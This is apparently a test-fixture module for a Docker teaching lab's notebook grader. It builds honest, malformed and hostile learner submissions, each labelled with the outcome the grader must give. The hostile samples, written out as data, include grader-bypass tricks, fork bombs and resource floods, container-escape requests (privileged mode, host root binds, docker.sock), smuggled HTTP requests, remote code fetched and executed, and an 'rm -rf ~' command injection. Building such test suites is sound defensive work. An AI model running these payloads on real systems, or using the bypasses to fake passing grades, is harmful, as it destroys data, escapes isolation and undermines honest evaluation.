"""Notebooks that learners hand in: honest, broken and hostile ones, generated, with what is expected of each."""

# ruff: noqa: E501 (an attack is one line of data, clearer unbroken)

from __future__ import annotations

import functools
import json
from collections.abc import Callable
from dataclasses import dataclass

import nbformat

from dockerlab.exercises import catalog, generation

EXERCISE = catalog.exercise("01")
ANSWERS = {name: EXERCISE.task(name).answer.strip() for name in EXERCISE.names()}
RUN = 'client.containers.run("dockerlab/tiny", ["sleep", "600"], name=given.box, detach=True{})'


@dataclass(frozen=True)
class Submission:
    """``expected``: rejected, fails (the task ``task`` does not pass), passes (all tasks pass)."""

    name: str
    content: bytes
    expected: str
    task: str = "01-1"


def notebook(answers: dict[str, str]) -> nbformat.NotebookNode:
    """The exercise as a learner saves it, with these answers."""
    made = generation.notebook(EXERCISE)
    for cell in made.cells:
        if cell.id.startswith("answer-") and cell.id[7:] in answers:
            cell.source = answers[cell.id[7:]]
    return made


def saved(made: nbformat.NotebookNode) -> bytes:
    return nbformat.writes(made).encode()


def changed(answers: dict[str, str], change: Callable[[nbformat.NotebookNode], object]) -> bytes:
    made = notebook(answers)
    change(made)
    return saved(made)


def cell(made: nbformat.NotebookNode, identity: str) -> nbformat.NotebookNode:
    return next(each for each in made.cells if each.id == identity)


# --- code in the answer of 01-1 that wants to pass without a running container of the right image ----------
_CLAIM = "print('01-1 통과 (2/2점)')\n"
IN_THE_KERNEL = {
    "does-nothing": "pass",
    "prints-the-verdict": _CLAIM,
    "syntax-error": "client.containers.run(",
    "raises": "1 / 0",
    "nbval-skip-comment": "# NBVAL_SKIP\n1 / 0",
    "nbval-raises-comment": "# NBVAL_RAISES_EXCEPTION\n1 / 0",
    "nbval-ignore-comment": f"# NBVAL_IGNORE_OUTPUT\n{_CLAIM}",
    "patches-showtraceback": "get_ipython().showtraceback = lambda *a, **k: None\n1 / 0",
    "patches-run-cell": "get_ipython().run_cell_async = None",
    "patches-run-cell-sync": "type(get_ipython()).run_cell = lambda *a, **k: None",
    "drops-checks-by-ast": (
        "import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Expr(self, node):\n"
        "        return ast.parse(\"print('01-1 통과 (2/2점)')\").body\n"
        "get_ipython().ast_transformers.append(Drop())"
    ),
    "rewrites-input": (
        "get_ipython().input_transformers_cleanup.append("
        "lambda lines: [\"print('01-1 통과 (2/2점)')\\n\"])"
    ),
    "hook-before-cells": (
        "def swap(info):\n    lab.check = lambda *a: '01-1 통과 (2/2점)'\n"
        "get_ipython().events.register('pre_run_cell', swap)"
    ),
    "patches-check": "lab.check = lambda *a: '01-1 통과 (2/2점)'",
    "patches-the-asking": (
        "from dockerlab.exercises import desk\n"
        "desk._ask_grader = lambda *a: {'task': '01-1', 'verdict': '통과', 'points': 2, 'max': 2, 'steps': []}"
    ),
    "patches-json": "import json\njson.loads = lambda *a, **k: {'verdict': '통과'}",
    "patches-print": "import builtins\nbuiltins.print = lambda *a, **k: None",
    "patches-assertion": "import builtins\nbuiltins.AssertionError = type('Never', (BaseException,), {})",
    "patches-import": "import builtins\nbuiltins.__import__ = None",
    "patches-sys-modules": "import sys\nsys.modules['dockerlab.exercises.desk'] = None",
    "patches-from-env": "import docker\ndocker.from_env = docker.DockerClient = None",
    "fake-docker-on-path": (
        "import os, pathlib\npathlib.Path('/tmp/bin').mkdir()\n"
        "pathlib.Path('/tmp/bin/docker').write_text('#!/bin/sh\\necho ok')\n"
        "os.chmod('/tmp/bin/docker', 0o755)\nos.environ['PATH'] = '/tmp/bin:' + os.environ['PATH']\n"
        "!docker run -d --name {given.box} dockerlab/tiny sleep 600"
    ),
    "another-grader": (
        "import os\nos.environ['DOCKERLAB_GRADER'] = '/tmp/mine.sock'\n"
        "import socketserver, threading\nclass H(socketserver.StreamRequestHandler):\n"
        "    def handle(self):\n        self.wfile.write(b'HTTP/1.1 200 OK\\r\\n\\r\\n{}')\n"
        "s = socketserver.UnixStreamServer('/tmp/mine.sock', H)\n"
        "threading.Thread(target=s.serve_forever, daemon=True).start()"
    ),
    "no-grader": "import os\nos.environ.pop('DOCKERLAB_GRADER')",
    "reads-the-solution": (
        "from dockerlab.exercises.solutions import e01_what_is_a_container as e\n"
        "exec(e.EXERCISE.task('01-1').answer)"
    ),
    "reads-the-solution-file": (
        "import glob\nfor p in glob.glob('/**/e01_what_is_a_container.py', recursive=True):\n"
        "    exec(open(p).read().split('answer=\"\"\"')[1].split('\"\"\"')[0])"
    ),
    "reads-the-history": (
        "import dockerlab, pathlib, subprocess\n"
        "root = pathlib.Path(dockerlab.__file__).resolve().parents[1]\n"
        "git = ['git', '-c', 'safe.directory=*', '-C', str(root), 'show']\n"
        "path = 'HEAD:dockerlab/exercises/solutions/e01_what_is_a_container.py'\n"
        "told = subprocess.run([*git, path], capture_output=True, text=True).stdout\n"
        "exec(told.split('answer=\"\"\"')[1].split('\"\"\"')[0])"
    ),
    "sys-exit": "import sys\nsys.exit(0)",
    "exit": "exit",
    "os-exit": "import os\nos._exit(0)",
    "kills-its-kernel": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    "kills-its-parents": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(1, signal.SIGKILL)",
    "kills-everybody": "import os, signal\nos.kill(-1, signal.SIGKILL)",
    "kills-every-pid": (
        "import os, signal\nfor pid in range(2, 70000):\n    try:\n        pid != os.getpid() and os.kill(pid, 9)\n"
        "    except OSError:\n        pass"
    ),
    "endless": "while True: pass",
    "endless-and-deaf": "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    "sleeps": "import time\ntime.sleep(10_000)",
    "recursion": "def f(): f()\nimport sys\nsys.setrecursionlimit(10**9)\nf()",
    "segfault": "import ctypes\nctypes.string_at(0)",
    "flood": "for _ in range(10**6): print('x' * 100)",
    "flood-of-displays": "from IPython.display import display\nfor _ in range(10**5): display({'text/plain': 'x'}, raw=True)",
    "memory": "x = []\nwhile True: x.append(bytearray(2**26))",
    "disk": "with open('/tmp/big', 'wb') as f:\n    while True: f.write(bytes(2**20))",
    "many-files": "import os\nfor n in range(10**6): open(f'/tmp/f{n}', 'w').close()",
    "fork-bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "threads": "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(999,)).start()",
    "closes-its-streams": "import os\nfor n in range(3, 64):\n    try: os.close(n)\n    except OSError: pass",
    "writes-into-the-package": "open(lab.__file__, 'a').write('x')",
    "becomes-root": "import os\nos.setuid(0)\nopen('/root/x', 'w')",
    "new-namespace": "import subprocess\nassert not subprocess.call(['unshare', '-Urm', 'umount', '/root'])",
    "the-real-socket": (
        "import docker, glob\nfor p in glob.glob('/root/**/docker.sock', recursive=True) + ['/var/run/docker.sock',"
        " '/proc/1/root/var/run/docker.sock']:\n    c = docker.DockerClient('unix://' + p)\n"
        "    c.containers.run('dockerlab/tiny', 'sleep 9', name=given.box, privileged=True, detach=True)"
    ),
    "network": "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/answer', timeout=3).read())",
}  # fmt: skip

# --- what asks the engine for more than it should get ------------------------------------------------------
_RAW = (
    (
        "import requests_unixsocket"
        if False
        else "import http.client, json, os, socket\n"
        "def ask(method, path, body=None, headers={{}}, raw=None):\n"
        "    c = http.client.HTTPConnection('x'); c.sock = socket.socket(socket.AF_UNIX)\n"
        "    c.sock.connect(os.environ['DOCKER_HOST'][7:])\n"
        "    c.request(method, path, raw or json.dumps(body or {{}}), {{'Content-Type': 'application/json', **headers}})\n"
        "    r = c.getresponse(); return r.status, r.read()\n"
    )
    .replace("{{", "{")
    .replace("}}", "}")
)
_CREATE = "'Image': 'dockerlab/tiny', 'Cmd': ['sleep', '600']"
_START = "\nassert made[0] == 201, made\nask('POST', '/containers/' + given.box + '/start')"
_BUILD = "import io\ndef build(text): client.images.build(fileobj=io.BytesIO(text), tag='own-' + given.token)\n"
AT_THE_ENGINE = {
    "privileged": RUN.format(", privileged=True"),
    "capability": RUN.format(", cap_add=['SYS_ADMIN']"),
    "binds-root": RUN.format(", volumes={'/': {'bind': '/host'}}"),
    "binds-the-socket": RUN.format(", volumes={'/var/run/docker.sock': {'bind': '/s'}}"),
    "mounts-root": "import docker\n" + RUN.format(", mounts=[docker.types.Mount('/h', '/', type='bind')]"),
    "host-pid": RUN.format(", pid_mode='host'"),
    "host-network": RUN.format(", network_mode='host'"),
    "host-ipc": RUN.format(", ipc_mode='host'"),
    "device": RUN.format(", devices=['/dev/kmsg']"),
    "unconfined": RUN.format(", security_opt=['seccomp=unconfined']"),
    "another-runtime": RUN.format(", runtime='crun'"),
    "another-cgroup": RUN.format(", cgroup_parent='/x'"),
    "another-case": (
        f"{_RAW}made = ask('POST', '/containers/create?name=' + given.box,"
        f" {{{_CREATE}, 'HostConfig': {{'privileged': True}}}}){_START}"
    ),
    "another-case-outside": (
        f"{_RAW}made = ask('POST', '/containers/create?name=' + given.box,"
        f" {{{_CREATE}, 'hostconfig': {{'Privileged': True}}}}){_START}"
    ),
    "volume-of-the-host": (
        "client.volumes.create('v' + given.token, driver_opts={'type': 'none', 'o': 'bind', 'device': '/'})\n"
        + RUN.format(", volumes={'v' + given.token: {'bind': '/host'}}")
    ),
    "joins-another": RUN.format(", network_mode='container:decoy'"),
    "removes-another": "client.api.remove_container('decoy', force=True)",
    "runs-in-another": "client.api.exec_create('decoy', ['true'])",
    "renames-another": "client.api.rename('decoy', given.box)",
    "copies-from-another": "client.api.get_archive('decoy', '/etc/passwd')",
    "prunes": "client.containers.prune()\nclient.volumes.prune()\nclient.images.prune()",
    "removes-the-image": "client.images.remove('dockerlab/tiny', force=True)",
    "retags-the-image": "client.images.get('dockerlab/debian').tag('dockerlab/tiny', 'latest')\n" + RUN.format(""),
    "pulls": "client.images.pull('busybox')",
    "pulls-from-a-registry-of-its-own": "client.images.pull('localhost:9/dockerlab/tiny', tag='1')",
    "builds-from-outside": f"{_BUILD}build(b'FROM busybox')",
    "builds-with-a-copy-from-outside": f"{_BUILD}build(b'FROM dockerlab/tiny\\nCOPY --from=busybox /bin /b')",
    "builds-with-an-address": f"{_BUILD}build(b'FROM dockerlab/tiny\\nADD http://192.0.2.1/a /a')",
    "commits-a-trigger": (
        RUN.format("").replace("given.box", "given.box + 'x'")
        + "\nclient.api.commit(given.box + 'x', 'trigger', changes=['ONBUILD ADD http://192.0.2.1/a /a'])"
    ),
    "publishes-every-port": RUN.format(", publish_all_ports=True"),
    "swarm": "client.swarm.init()",
    "plugin": "client.plugins.install('x/y')",
    "events": "next(iter(client.events()))",
    "dotted-path": f"{_RAW}print(ask('GET', '/containers/../info'), ask('GET', '//var/run'))",
    "smuggled-request": (
        f"{_RAW}print(ask('GET', '/_ping', raw=b'POST /containers/decoy/kill HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n',"
        " headers={'Content-Length': '0'}))"
    ),
    "two-lengths": f"{_RAW}print(ask('POST', '/containers/create', raw=b'0\\r\\n\\r\\n', headers={{'Transfer-Encoding': 'chunked'}}))",
    "not-http": "import socket, os\ns = socket.socket(socket.AF_UNIX); s.connect(os.environ['DOCKER_HOST'][7:])\ns.send(b'\\x00' * 9999)",
    "many-connections": "import socket, os\nk = []\nfor _ in range(400):\n    s = socket.socket(socket.AF_UNIX); s.connect(os.environ['DOCKER_HOST'][7:]); k.append(s)",
    "long-body": f"{_RAW}ask('POST', '/containers/create', raw=b'{{\"x\": \"' + b'x' * 2**22 + b'\"}}')",
    "many-containers": "for n in range(200):\n    client.containers.run('dockerlab/tiny', 'sleep 99', detach=True)",
    "labels-of-another": "client.containers.run('dockerlab/tiny', 'sleep 99', detach=True, labels={'dockerlab.exercise': 'x', 'dockerlab.session': 'y'})",
    "exits-before-the-check": 'client.containers.run("dockerlab/tiny", ["true"], name=given.box, detach=True).wait()',
    "another-image-renamed": (
        "client.images.get('dockerlab/debian').tag('dockerlab-tiny', given.token)\n"
        "client.containers.run('dockerlab-tiny:' + given.token, 'sleep 99', name=given.box, detach=True)"
    ),
    "hard-coded-name": "client.containers.run('dockerlab/tiny', 'sleep 99', name='box-bcd234', detach=True)",
    "floods-the-log": "client.containers.run('dockerlab/tiny', ['yes'], name=given.box + 'x', detach=True)",
    "fills-a-container": (
        "client.containers.run('dockerlab/tiny', ['sh', '-c', 'dd if=/dev/zero of=/big bs=1M count=10000'],"
        " name=given.box, detach=True).wait(timeout=15)"
    ),
    "bomb-in-a-container": "client.containers.run('dockerlab/tiny', ['sh', '-c', 'b() { b | b & }; b'], name=given.box, detach=True).wait(timeout=15)",
}  # fmt: skip

# --- values -----------------------------------------------------------------------------------------------
VALUES = {
    "equal-to-everything": "class A:\n    def __eq__(self, other): return True\nanswer = A()",
    "list-equal-to-everything": "class A(list):\n    def __eq__(self, other): return True\nanswer = A(['x'])",
    "not-a-number": "answer = float('nan')",
    "deep": "answer = []\nfor _ in range(5000): answer = [answer]",
    "itself": "answer = []\nanswer.append(answer)",
    "huge": "answer = ['x' * 10**7]",
    "tries-them-all": (
        "for one in (['nothing'], ['sh'], ['bash'], ['python3'], ['busybox', 'sh'], ['/bin/sh']):\n"
        "    if lab.check('01-4', one).passed: break\nanswer = one"
    ),
    "pickle": "import pickle\nanswer = pickle.dumps(['sh'])",
    "no-answer": "del answer",
}  # fmt: skip


def _broken() -> dict[str, bytes]:
    whole = saved(notebook({}))
    told = json.loads(whole)

    def with_cells(change):
        copy = json.loads(whole)
        change(copy)
        return json.dumps(copy, ensure_ascii=False).encode()

    return {
        "empty": b"",
        "spaces": b" \n\n",
        "not-json": b"hello",
        "truncated": whole[: len(whole) // 2],
        "list": b"[]",
        "null": b"null",
        "number": b"4",
        "no-cells": json.dumps(told | {"cells": []}).encode(),
        "cells-an-object": json.dumps(told | {"cells": {}}).encode(),
        "cell-a-string": with_cells(lambda nb: nb["cells"].append("x")),
        "two-cells-keys": whole.replace(b'"cells": [', b'"cells": [], "cells": [', 1),
        "v3": json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": []}]}).encode(),
        "nbformat-99": json.dumps(told | {"nbformat": 99}).encode(),
        "nbformat-true": json.dumps(told | {"nbformat": True}).encode(),
        "nbformat-a-string": json.dumps(told | {"nbformat": "4"}).encode(),
        "same-ids": with_cells(lambda nb: [each.update(id="answer-01-1") for each in nb["cells"]]),
        "path-as-id": with_cells(lambda nb: nb["cells"][0].update(id="../../etc/passwd")),
        "id-a-number": with_cells(lambda nb: nb["cells"][0].update(id=7)),
        "source-a-number": with_cells(lambda nb: nb["cells"][1].update(source=7)),
        "source-a-list-of-numbers": with_cells(lambda nb: nb["cells"][1].update(source=[7])),
        "source-huge": with_cells(lambda nb: nb["cells"][1].update(source="#" * 200_000)),
        "kind-unknown": with_cells(lambda nb: nb["cells"][1].update(cell_type="heading")),
        "many-cells": with_cells(lambda nb: nb["cells"].extend([{"cell_type": "raw", "source": ""}] * 600)),
        "deep": b"[" * 100_000 + b"]" * 100_000,
        "utf-16": whole.decode().encode("utf-16"),
        "cp949": whole.decode().encode("cp949", "replace"),
        "nan": with_cells(lambda nb: nb["metadata"].update(x=float("nan"))),
        "surrogate": whole.replace(b"# \\uc5f0", b"# \\ud800", 1)
        if b"# \\uc5f0" in whole
        else whole.replace("# 연습".encode(), b"# \\ud800", 1),
        "nul": whole.replace(b"import", b"\0import", 1),
        "long-integer": with_cells(lambda nb: nb["metadata"].update(x=0)).replace(b'"x": 0', b'"x": ' + b"9" * 5000),
        "large": with_cells(lambda nb: nb["cells"][1].update(outputs=["<script>" * 4_000_000])),
        "another-course": json.dumps(
            {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "source": "1"}]}
        ).encode(),
        "binary": bytes(range(256)) * 40,
        "gzip": b"\x1f\x8b\x08\x00" + bytes(100),
    }  # fmt: skip


@functools.cache
def hostile() -> list[Submission]:
    """What must not pass."""
    found = [
        Submission(f"kernel-{name}", saved(notebook({"01-1": code})), "fails")
        for name, code in IN_THE_KERNEL.items()
    ]
    found += [
        Submission(f"engine-{name}", saved(notebook({"01-1": code})), "fails")
        for name, code in AT_THE_ENGINE.items()
    ]
    found += [
        Submission(f"value-{name}", saved(notebook({"01-4": code})), "fails", "01-4")
        for name, code in VALUES.items()
    ]
    found += [Submission(f"broken-{name}", content, "rejected") for name, content in _broken().items()]
    found += [Submission(f"edited-{name}", content, "fails") for name, content in _edited().items()]
    return found  # fmt: skip


def _edited() -> dict[str, bytes]:
    def edit(identity, source):
        return changed({}, lambda made: cell(made, identity).update(source=source))

    def remove(made):
        made.cells = [each for each in made.cells if not each.id.startswith("check-")]

    def tagged(tag):
        return changed({}, lambda made: [each.metadata.update(tags=[tag]) for each in made.cells])

    def pasted(made):
        output = nbformat.v4.new_output(
            "execute_result", {"text/plain": "01-1 통과 (2/2점)"}, execution_count=1
        )
        cell(made, "check-01-1").update(outputs=[output], execution_count=1)

    return {
        "untouched": saved(notebook({})),
        "check-prints": edit("check-01-1", _CLAIM),
        "check-shadowed": edit("check-01-1", "lab.check('01-1') if 0 else None"),
        "checks-deleted": changed({}, remove),
        "setup-replaced": edit(
            "setup", "class lab:\n    check = staticmethod(lambda *a: '01-1 통과 (2/2점)')"
        ),
        "setup-emptied": edit("setup", ""),
        "output-pasted": changed({}, pasted),
        "tag-skip": tagged("nbval-skip"),
        "tag-raises": tagged("raises-exception"),
        "tag-ignore": tagged("nbval-ignore-output"),
        "kernel-of-its-own": changed(
            {}, lambda made: made.metadata.update(kernelspec={"name": "x; rm -rf ~"})
        ),
        "role-forged": changed(
            {},
            lambda made: [
                each.metadata.update(dockerlab={"role": "check", "task": "01-1"}) for each in made.cells
            ],
        ),
    }
